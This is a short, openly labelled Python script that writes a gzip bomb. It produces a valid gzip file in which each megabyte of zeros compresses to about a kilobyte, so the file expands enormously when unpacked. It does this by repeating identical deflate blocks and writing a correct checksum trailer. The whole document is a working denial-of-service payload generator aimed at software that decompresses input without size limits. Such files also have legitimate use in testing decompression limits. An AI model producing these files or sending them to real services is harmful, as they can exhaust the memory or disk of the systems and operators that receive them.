"""Writes a gzip bomb: one gzip member (RFC 1952) holding SIZE zero bytes (a multiple of
1 MiB), about 1 KiB per MiB, in constant memory and a second or so for a GiB.

Each MiB of zeros is deflated after a full flush, which leaves the output byte-aligned and
the compressor's history empty, so every MiB after the first deflates to the same bytes:
they are written out repeatedly instead of compressed again. The trailer holds the CRC-32
and size of all SIZE bytes, so the member is valid to its end.

    gzip_bomb.py OUT SIZE
"""
import struct
import sys
import zlib

out, size = sys.argv[1], int(sys.argv[2])
mib = 1 << 20
assert size >= 2 * mib and size % mib == 0, "SIZE: a multiple of 1 MiB, at least 2 MiB"
chunk = bytes(mib)
gz = zlib.compressobj(9, zlib.DEFLATED, 31)  # wbits 16 + 15: a gzip header and trailer
first = gz.compress(chunk) + gz.flush(zlib.Z_FULL_FLUSH)
unit = gz.compress(chunk) + gz.flush(zlib.Z_FULL_FLUSH)
assert gz.compress(chunk) + gz.flush(zlib.Z_FULL_FLUSH) == unit
last = gz.flush()[:-8]  # the final block, without the trailer of these 3 MiB
crc = 0
with open(out, "wb") as f:
    f.write(first)
    crc = zlib.crc32(chunk, crc)
    for _ in range(size // mib - 1):
        f.write(unit)
        crc = zlib.crc32(chunk, crc)
    f.write(last)
    f.write(struct.pack("<II", crc, size & 0xFFFFFFFF))
